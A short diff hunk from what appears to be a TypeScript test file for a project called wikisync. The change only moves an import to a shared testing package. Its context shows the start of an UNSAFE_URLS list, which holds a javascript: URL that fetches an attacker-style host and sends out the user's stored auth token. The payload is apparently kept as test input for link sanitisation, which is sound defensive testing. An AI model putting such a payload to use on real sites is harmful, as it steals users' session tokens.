@@ -8,7 +8,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { jsonOf, startTestApp, type TestApp } from '../../apps/server/src/testing/test-app.js';
 import { testDatabaseKinds } from '../../apps/server/src/testing/test-database.js';
-import { repositoryDoc } from '../../apps/server/src/testing/replicated-docs.js';
+import { repositoryDoc } from '@wikisync/shared/testing';
 
 const UNSAFE_URLS = [
   "javascript:fetch('http://evil.test/steal?t='+localStorage.getItem('wikisync.token'))",
